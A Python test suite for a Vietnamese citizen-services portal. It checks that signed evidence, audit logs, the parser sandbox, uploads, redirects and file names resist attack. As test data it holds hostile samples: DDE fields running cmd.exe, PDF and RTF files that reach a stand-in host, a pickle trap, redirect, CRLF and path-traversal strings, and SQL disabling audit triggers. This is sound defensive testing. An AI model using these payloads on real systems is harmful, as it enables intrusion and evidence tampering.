"""Attacks and accidents, each as one story: what must not happen, whatever is sent, replayed or interrupted."""

import io
import os
import re
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from types import SimpleNamespace
from typing import Any
from uuid import UUID, uuid4

import pikepdf
import pytest
from flask import Flask
from sqlalchemy import select, text, update
from sqlalchemy.exc import IntegrityError, OperationalError

from portal import housekeeping, servers
from portal.accounts.models import SignInSession
from portal.core import blobs, clock, db, events, outbox
from portal.core.actor import SYSTEM
from portal.core.clock import local
from portal.core.db import reading, transaction
from portal.core.sandbox import Sandbox, SandboxError
from portal.documents.inspection import EDITABLE, SCANS, Inspection, inspect
from portal.dossiers.models import Dossier, DossierFile, IssuedDocument, ParkedInput
from portal.office import actions as office
from tests.support import files
from tests.support.applicants import PAGES, Person, application_pdf, begin, fill, prepared, sign_in

NOW = datetime(2026, 11, 23, 8, 0, tzinfo=UTC)
LONG = "Đây là đoạn lý do rất dài mà cán bộ đã viết trong ba mươi mốt phút."


@dataclass(frozen=True)
class Hostile(events.Event):
    """An event for these tests."""

    what: str


@pytest.fixture
def citizen(app: Flask, world: SimpleNamespace) -> Person:
    return sign_in(Person(app.test_client()), "citizen")


@pytest.fixture
def no_tokens(app: Flask, monkeypatch: pytest.MonkeyPatch) -> None:
    """As if every token were right."""
    monkeypatch.setitem(app.config, "WTF_CSRF_ENABLED", False)


def _id(address: str) -> UUID:
    return UUID(address.split("/")[2])


def _dossier(dossier_id: UUID) -> Dossier:
    with reading() as session:
        return session.get_one(Dossier, dossier_id)


def _end_every_session() -> None:
    with transaction() as session:
        session.execute(update(SignInSession).values(ended_at=clock.now()))


@pytest.fixture
def asked(citizen: Person, world: SimpleNamespace, pki: Any) -> UUID:
    """A signed dossier that has to be completed at one question."""
    prepared(citizen)
    signed = pki.signed_by("citizen", application_pdf(citizen))
    citizen.send(files={"signed": [(signed, "don.pdf")]}, action="/sign")
    citizen.send(action="/submission")
    dossier_id = _id(citizen.path)
    demand = office.Demand("question", "copies", "copies_and_result", "Số bản", "Copies", "Ghi sai số bản")
    with transaction() as session:
        now, revision = clock.now(), session.get_one(Dossier, dossier_id).revision
        day = local(now).date() + timedelta(days=10)
        office.request_supplement(
            session, dossier_id, demands=[demand], reply_by=day, actor=world.receptionist, revision=revision, now=now
        )
    return dossier_id


# What was handed in stays handed in


def _signed_copies(dossier_id: UUID) -> list[str]:
    query = select(IssuedDocument.sha256).where(
        IssuedDocument.dossier_id == dossier_id, IssuedDocument.kind == "signed_application"
    )
    with reading() as session:
        return list(session.scalars(query))


def test_the_signed_application_that_was_handed_in_cannot_be_taken_out(
    citizen: Person, asked: UUID, no_tokens: None
) -> None:
    """P1, P5: while a dossier is being completed, what was submitted before is evidence."""
    before = _signed_copies(asked)
    assert len(before) == 1
    citizen.client.post(f"/drafts/{asked}/unsigned")
    assert _signed_copies(asked) == before


def test_the_signed_application_that_was_handed_in_cannot_be_replaced(
    citizen: Person, asked: UUID, pki: Any, no_tokens: None
) -> None:
    before = _signed_copies(asked)
    citizen.get(f"/drafts/{asked}/sign")
    again = pki.signed_by("citizen", application_pdf(citizen))
    citizen.client.post(f"/drafts/{asked}/sign", data={"signed": (io.BytesIO(again), "don.pdf")})
    assert _signed_copies(asked) == before


def test_answers_changed_after_signing_are_not_shown_under_the_old_verdict(citizen: Person, asked: UUID) -> None:
    """P5: an officer never reads "valid" beside answers that the signature does not cover."""
    citizen.get(f"/drafts/{asked}/copies_and_result").send({"copies": "7"})
    officer = sign_in(Person(citizen.client.application.test_client()), "receptionist", back="/office/")
    page = officer.get(f"/office/dossiers/{asked}").main
    assert "Chữ ký hợp lệ" not in page or re.search(r"7\s*bản", page) is None


def test_parked_input_for_a_page_that_is_not_open_does_not_block_the_supplement(
    citizen: Person, asked: UUID, no_tokens: None
) -> None:
    """An old window, an ended session: the dossier must still be completable afterwards."""
    _end_every_session()
    citizen.client.post(f"/drafts/{asked}/applicant", data={"applicant_name": "Người Khác Hẳn"})
    sign_in(citizen, "citizen")
    assert "applicant" not in _dossier(asked).unfinished


def test_parked_files_go_only_where_files_were_asked_for(citizen: Person, asked: UUID, no_tokens: None) -> None:
    """The scope of a supplement holds for what comes back after signing in, too."""
    _end_every_session()
    citizen.client.post(f"/drafts/{asked}/papers", data={"old_copy_file": files_of("lau.pdf")})
    sign_in(citizen, "citizen")
    with reading() as session:
        assert session.scalars(select(DossierFile.name).where(DossierFile.dossier_id == asked)).all() == []


def files_of(name: str) -> Any:
    return (io.BytesIO(files.pdf()), name)


def test_what_was_parked_does_not_overwrite_what_was_written_later(
    app: Flask, citizen: Person, no_tokens: None
) -> None:
    """P4: typed here, continued elsewhere, signed in here again: the later text is not gone."""
    draft = begin(citizen)
    _end_every_session()
    citizen.client.post(f"{draft}/record", data={"registered_at": "Cũ", "event": "birth"})
    elsewhere = sign_in(Person(app.test_client()), "citizen")
    elsewhere.get(f"{draft}/record").send(PAGES["record"] | {"registered_at": "Mới hơn, viết ở máy khác"})
    sign_in(citizen, "citizen")
    shown = citizen.get(f"{draft}/record").page
    assert "Mới hơn, viết ở máy khác" in shown.text_content() + str(citizen.typed("/record"))


def test_parked_input_does_not_stay_for_ever(citizen: Person, no_tokens: None) -> None:
    """What nobody came back for is personal data without an owner; the hourly housekeeping removes it."""
    draft = begin(citizen)
    _end_every_session()
    citizen.client.post(f"{draft}/record", data={"registered_at": "Không ai quay lại"})
    with transaction() as session:
        session.execute(update(ParkedInput).values(created_at=clock.now() - timedelta(days=120)))
    housekeeping.tidy()
    with reading() as session:
        assert session.scalars(select(ParkedInput.id)).all() == []


def test_a_file_for_a_question_that_is_not_asked_is_not_signed_and_not_sent(citizen: Person, no_tokens: None) -> None:
    """Hidden fields: a mandate sent along (or left over from another choice) is no part of the application."""
    draft = begin(citizen)
    fill(citizen, draft)
    citizen.client.post(
        f"{draft}/papers",
        data=PAGES["papers"] | {"mandate_file": files_of("uy-quyen-bi-mat.pdf")},
        content_type="multipart/form-data",
    )
    assert "uy-quyen-bi-mat" not in citizen.get(f"{draft}/check").main
    citizen.send(action="/application")
    citizen.send(action="/submission")
    with reading() as session:
        record = session.scalars(select(events.EventRecord).where(events.EventRecord.type == "DossierSubmitted")).one()
    assert record.payload["files"] == []


# Whatever goes wrong, what was typed is kept


def test_what_an_officer_wrote_survives_the_end_of_the_session(
    app: Flask, citizen: Person, world: SimpleNamespace, no_tokens: None
) -> None:
    """Rule 9 of the house, at the desks: a reason written for half an hour is not thrown away."""
    prepared(citizen)
    citizen.send(action="/submission")
    dossier_id = _id(citizen.path)
    officer = sign_in(Person(app.test_client()), "receptionist", back="/office/")
    _end_every_session()
    data = {"revision": "1", "reason_code": "not_ours", "reason": LONG}
    answer = officer.client.post(f"/office/dossiers/{dossier_id}/refuse", data=data)
    assert LONG in answer.get_data(as_text=True)


def test_what_an_editor_wrote_survives_the_end_of_the_session(app: Flask, world: Any, no_tokens: None) -> None:
    editor = sign_in(Person(app.test_client()), "editor", back="/editor/")
    _end_every_session()
    answer = editor.client.post("/editor/new", data={"title": "Bài", "body": LONG})
    assert LONG in answer.get_data(as_text=True)


def test_short_answers_survive_a_form_that_expired(citizen: Person) -> None:
    """Most of what a citizen types is short: a name, a number, a date."""
    draft = begin(citizen)
    answer = citizen.client.post(
        f"{draft}/applicant", data={"applicant_name": "Y Ê-ban", "applicant_number": "067190001234"}
    )
    body = answer.get_data(as_text=True)
    assert answer.status_code == 400
    assert "Y Ê-ban" in body
    assert "067190001234" in body


@pytest.mark.parametrize("name", ["present", "pin", "password"])
def test_no_error_page_shows_a_secret(citizen: Person, name: str) -> None:
    """A password is a sentence here; it is not shown back when the form has expired."""
    secret = "mot cau rat dai cua rieng toi"
    answer = citizen.client.post("/account/password", data={name: secret})
    assert answer.status_code == 400
    assert secret not in answer.get_data(as_text=True)


# The worker


def test_a_worker_survives_a_database_that_was_away(monkeypatch: pytest.MonkeyPatch) -> None:
    """A restarted database must not leave a process that looks alive and delivers nothing."""
    stop, calls = threading.Event(), []

    def deliver(**_: Any) -> bool:
        calls.append(1)
        if len(calls) == 1:
            raise OperationalError("SELECT", {}, Exception("server closed the connection"))
        stop.set()
        return False

    monkeypatch.setattr(servers.outbox, "deliver_next", deliver)
    servers._deliver_until(stop)
    assert len(calls) == 2


@pytest.fixture
def database(database_url: str) -> db.Database:
    return db.configure(database_url)


def _happen(stream: UUID, *whats: str) -> None:
    with transaction() as session:
        for what in whats:
            events.publish(session, stream, Hostile(what), actor=SYSTEM, now=NOW)


def test_a_message_that_kills_its_worker_is_set_aside_in_the_end(database: db.Database) -> None:
    """A handler that ends the whole process never reports back; somebody must see it all the same."""
    outbox.subscribe("Hostile", "test-killer", lambda delivery: None)
    try:
        _happen(uuid4(), "deadly")
        moment = NOW
        for _ in range(outbox.MOST_ATTEMPTS + 3):
            outbox.claim(now=moment)  # and dies
            moment += outbox.LEASE + timedelta(seconds=1)
        with reading() as session:
            assert len(outbox.set_aside(session)) == 1
    finally:
        outbox.unsubscribe("test-killer")


def test_an_hour_without_time_stamps_loses_no_receipt(database: db.Database) -> None:
    """A remote service that is away for an hour is ordinary; its messages are delivered when it is back."""
    seen: list[datetime] = []
    moment = [NOW]

    def away(delivery: outbox.Delivery) -> None:
        if moment[0] < NOW + timedelta(hours=1):
            raise RuntimeError("no time-stamp")
        seen.append(moment[0])

    outbox.subscribe("Hostile", "test-away", away)
    try:
        _happen(uuid4(), "receipt")
        while moment[0] < NOW + timedelta(hours=4):
            outbox.deliver_all(clock=lambda: moment[0])
            moment[0] += timedelta(minutes=1)
        assert len(seen) == 1
    finally:
        outbox.unsubscribe("test-away")


# History


def _unguarded(database: db.Database, *statements: str) -> None:
    with db.transaction() as session:
        if database.is_sqlite:
            session.execute(text("DROP TRIGGER event_no_update"))
            session.execute(text("DROP TRIGGER event_no_delete"))
        else:
            session.execute(text("ALTER TABLE event DISABLE TRIGGER ALL"))
        for statement in statements:
            session.execute(text(statement))


@pytest.mark.every_case
@pytest.mark.parametrize("where", ["position = 3", "position > 1", "position > 0"])
def test_a_log_cut_off_at_its_end_is_found_out(database: db.Database, where: str) -> None:
    """R19, P5: the newest records are the ones somebody wants to be rid of."""
    _happen(uuid4(), "a", "b", "c")
    _happen(uuid4(), "x")
    _unguarded(database, f"DELETE FROM event WHERE type = 'Hostile' AND {where}")  # noqa: S608 (our own words)
    with reading() as session:
        assert list(events.verify(session))


def test_a_chain_made_anew_is_found_out(database: db.Database) -> None:
    """A plain hash can be computed by whoever rewrites the record."""
    stream = uuid4()
    _happen(stream, "refused")
    with reading() as session:
        record = events.history(session, stream)[0]
        record.payload = {"what": "accepted"}
        new = record.expected_hash()
    _unguarded(database)
    with transaction() as session:
        session.execute(
            update(events.EventRecord)
            .where(events.EventRecord.stream == stream)
            .values(payload={"what": "accepted"}, hash=new)
        )
    with reading() as session:
        assert list(events.verify(session))


def test_two_who_write_one_log_at_the_same_moment_both_succeed(database: db.Database) -> None:
    """The worker puts a slip beside a dossier while an officer decides: neither may fail (PostgreSQL locks rows)."""
    stream, wrong, begun = uuid4(), [], threading.Event()
    _happen(stream, "first")

    def slowly() -> None:
        with transaction() as session:
            events.publish(session, stream, Hostile("second"), actor=SYSTEM, now=NOW)
            begun.set()
            time.sleep(0.3)

    def at_once() -> None:
        begun.wait(5)
        try:
            _happen(stream, "third")
        except IntegrityError as problem:
            wrong.append(problem)

    both = [threading.Thread(target=slowly), threading.Thread(target=at_once)]
    for one in both:
        one.start()
    for one in both:
        one.join()
    assert wrong == []


# Logs


def test_an_error_of_the_database_does_not_carry_what_was_typed(database: db.Database) -> None:
    """Traces go to the log and to the administrator's page of undelivered messages: no personal data in them."""
    secret = "067190001234-Nguyễn"
    row = text("INSERT INTO sequence (name, value) VALUES (:name, 1), (:name, 1)")
    with pytest.raises(IntegrityError) as caught, transaction() as session:
        session.execute(row, {"name": secret})
    assert secret not in str(caught.value).split("[SQL:")[-1]


# The sandbox


def _bad_news() -> Any:
    """What a taken-over child would answer with."""
    return _Trap()


class _Trap:
    def __reduce__(self) -> tuple[Any, ...]:
        return _spring, ()


def _spring() -> str:
    os.environ["SPRUNG_BY"] = str(os.getpid())
    return "sprung"


def test_the_sandbox_does_not_know_the_secrets_of_the_portal(monkeypatch: pytest.MonkeyPatch) -> None:
    """T15–T17: whoever takes the parser over finds neither session key nor database password."""
    for name in ("PORTAL_SECRET_KEY", "PORTAL_DATABASE_URL", "PORTAL_KEYS_PASSPHRASE"):
        monkeypatch.setenv(name, "secret")
    box = Sandbox(preload=(), memory_bytes=512 << 20, seconds=5)
    try:
        found = [box.run("os:getenv", f"PORTAL_{name}") for name in ("SECRET_KEY", "DATABASE_URL", "KEYS_PASSPHRASE")]
    finally:
        box.close()
    assert found == [None, None, None]


def test_an_answer_of_the_sandbox_runs_nothing_in_the_portal(monkeypatch: pytest.MonkeyPatch) -> None:
    """A taken-over child must not be able to send code to its parent."""
    monkeypatch.setenv("SPRUNG_BY", "")
    box = Sandbox(preload=(), memory_bytes=1 << 30, seconds=20)
    try:
        box.run(f"{__name__}:_bad_news")
    except SandboxError:
        pass
    finally:
        box.close()
    assert os.environ["SPRUNG_BY"] == ""


# Files that hurt whoever opens them


def _look(folder: Path, name: str, content: bytes) -> Inspection:
    return inspect(files.save(folder, "upload", content), filename=name, accept=EDITABLE | SCANS, max_bytes=20 << 20)


def _pdf_with(action: str) -> bytes:
    document = files.pdf_document()
    target = pikepdf.Dictionary(F=r"\\192.0.2.1\share\x.pdf")
    document.Root.OpenAction = document.make_indirect(pikepdf.Dictionary(S=pikepdf.Name(action), F=target))
    return files.saved(document)


def _docx_with_field() -> bytes:
    return files.docx(
        extra={
            "word/document.xml": '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            '<w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO '
            r'c:\\windows\\system32\\cmd.exe "/k calc.exe"</w:instrText></w:r></w:p></w:body></w:document>'
        }
    )


def _docx_with_chunk() -> bytes:
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" Target="x.rtf"/>'
        "</Relationships>"
    )
    return files.docx(
        extra={"word/_rels/document.xml.rels": relations, "word/x.rtf": rb"{\rtf1{\object{\*\objdata 01}}}"}
    )


def _docx_with_package_elsewhere() -> bytes:
    package = files.compound_file({"\x01Ole10Native": b"MZ" + b"\0" * 600})
    return files.docx(extra={"word/media/oleObject1.dat": package})


HURTFUL: dict[str, tuple[str, Callable[[], bytes]]] = {
    "pdf that sends its form": ("a.pdf", lambda: _pdf_with("/SubmitForm")),
    "pdf that opens a share": ("a.pdf", lambda: _pdf_with("/GoToR")),
    "rtf with a remote template": ("a.rtf", lambda: files.rtf(inside=r"{\*\template http://192.0.2.1/t.dotm}")),
    "rtf with a dde field": ("a.rtf", lambda: files.rtf(inside=r'{\field{\*\fldinst DDEAUTO cmd.exe "/k calc"}}')),
    "docx with a dde field": ("a.docx", _docx_with_field),
    "docx that takes in an rtf": ("a.docx", _docx_with_chunk),
    "docx with a package elsewhere": ("a.docx", _docx_with_package_elsewhere),
}


@pytest.mark.parametrize("name", HURTFUL)
def test_a_file_that_acts_when_it_is_opened_is_refused(tmp_path: Path, name: str) -> None:
    """P3: what the portal hands to an officer does nothing by itself."""
    filename, make = HURTFUL[name]
    assert not _look(tmp_path, filename, make()).accepted


# Addresses, names, headers


@pytest.mark.parametrize(
    "target",
    [
        "//evil.example",
        "/\\evil.example",
        "https://evil.example",
        "/\t/evil.example",
        "\\\\evil.example",
        "/%0d%0aX: y",
    ],
)
def test_nobody_is_sent_to_another_site(app: Flask, world: SimpleNamespace, target: str) -> None:
    client = app.test_client()
    answer = client.get("/language/en", query_string={"next": target})
    place = answer.headers["Location"]
    assert place.startswith("/")
    assert not place.startswith(("//", "/\\"))
    assert "\r" not in place
    assert "\n" not in place


def test_a_header_cannot_give_a_guesser_a_new_address(app: Flask, world: SimpleNamespace, no_tokens: None) -> None:
    """T09: without a proxy that we were told of, X-Forwarded-For is nobody's word."""
    client, statuses = app.test_client(), set()
    for number in range(35):
        answer = client.post(
            "/sign-in",
            data={"username": f"nobody{number}", "password": "x" * 12},
            headers={"X-Forwarded-For": f"198.51.100.{number}"},
        )
        statuses.add(answer.status_code)
    assert 429 in statuses


def test_reading_changes_nothing(app: Flask, citizen: Person, no_tokens: None) -> None:
    """No address that a picture or a link can call does anything."""
    draft = begin(citizen)
    fill(citizen, draft, {"applicant": PAGES["applicant"]})
    before = (_dossier(_id(draft)).revision, _dossier(_id(draft)).answers)
    for rule in app.url_map.iter_rules():
        if rule.endpoint.startswith("dossiers.") and rule.arguments == {"draft_id"}:
            citizen.client.get(rule.rule.replace("<uuid:draft_id>", str(_id(draft)))).close()
    assert (_dossier(_id(draft)).revision, _dossier(_id(draft)).answers) == before


def test_a_stored_file_is_not_readable_by_everybody(app: Flask, world: SimpleNamespace) -> None:
    blob = blobs.store().put(b"personal")
    assert blobs.store().path(blob.sha256).stat().st_mode & 0o007 == 0


@pytest.mark.parametrize(
    "name", ["../../etc/passwd", "..\\..\\x.pdf", 'a"\r\nX-Evil: 1.pdf', "a\u202efdp.exe", "\u0000.pdf"]
)
def test_the_name_of_a_file_stays_a_name(citizen: Person, no_tokens: None, name: str) -> None:
    draft = begin(citizen)
    fill(citizen, draft, {"applicant": PAGES["applicant"]})
    citizen.client.post(f"{draft}/papers", data={"old_copy_file": files_of(name)}, content_type="multipart/form-data")
    with reading() as session:
        kept = session.scalars(select(DossierFile)).all()
    for one in kept:
        assert not set('/\\"\r\n\x00\u202e') & set(one.name)
        with citizen.client.get(f"/dossiers/{one.dossier_id}/files/{one.id}") as answer:
            assert answer.status_code == 200
            assert "X-Evil" not in answer.headers
            assert answer.headers["Content-Disposition"].startswith("attachment")
